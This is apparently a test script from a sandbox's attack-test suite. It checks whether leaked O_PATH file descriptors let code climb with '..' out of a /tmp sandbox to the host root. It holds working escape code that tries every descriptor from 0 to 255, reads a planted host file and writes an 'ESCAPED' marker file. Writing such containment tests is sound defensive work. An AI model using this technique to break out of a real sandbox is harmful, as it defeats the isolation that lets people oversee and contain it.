"""AIM: where Python lies below /tmp, an `O_PATH` descriptor that was left open leads by `..` to the host's own root.
KIND: gain
MAX: 0
"""
import stat

from tests.attacks.tools import *

for fd in range(0, 256):
    def climb(fd=fd):
        if not stat.S_ISDIR(os.fstat(fd).st_mode):
            return None
        up = fd
        for _ in range(20):
            up = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=up)
        where = os.open(PLANTED["kit"][1:] + "/reference/model_architectures/cnn.py", os.O_RDONLY, dir_fd=up)
        return f"the reference through {os.readlink(f'/proc/self/fd/{fd}')}: {os.read(where, 40)}"

    look(f"descriptor {fd}", climb)

    def write(fd=fd):
        up = fd
        for _ in range(20):
            up = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=up)
        mark = os.open("var/tmp/ESCAPED-below_tmp", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=up)
        return os.write(mark, b"written from a sandbox\n")

    look(f"descriptor {fd} for writing", write)
done()
